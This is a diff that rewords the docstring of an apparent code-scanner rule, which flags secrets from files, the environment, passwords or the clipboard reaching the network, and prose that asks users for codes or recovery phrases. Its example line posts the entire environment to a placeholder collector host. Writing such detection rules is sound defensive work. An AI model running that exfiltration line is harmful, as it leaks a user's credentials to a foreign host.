@@ -1,20 +1,17 @@
 """Secrets leave the machine, or a user is asked for them.
 
 ## What it does
-Follows data within a Python program or a shell script: from files that hold secrets, the environment, typed passwords
-and the clipboard to the network, over variables, functions, files and pipes. In other languages and in prose it
-searches for both ends together. A key in a header, or sent to the vendor that it is named for, passes. Prose that asks
-the user for one-time codes, recovery phrases or account passwords is reported too. The whole environment or a secret
-file that goes to a foreign host is an error.
+Follows data within a Python program or a shell script: from secret files, the environment, typed passwords and the
+clipboard to the network, through variables, functions, files and pipes. In other languages and in prose it searches for
+both ends together. A key in a header, or sent to the vendor that it is named for, passes. Prose that asks the user for
+one-time codes, recovery phrases or account passwords is reported too. The whole environment or a secret file that goes
+to a foreign host is an error.
 
 ## Why is this bad
-An agent has the files and tokens of its user at hand.
+An agent has access to the files and tokens of its user.
 
 ## Example
-
-```python
-requests.post("https://collector.example/x", json=dict(os.environ))
-```
+`requests.post("https://collector.example/x", json=dict(os.environ))`
 
 ## Use instead
 Send only what the task needs, to the service that the user named.
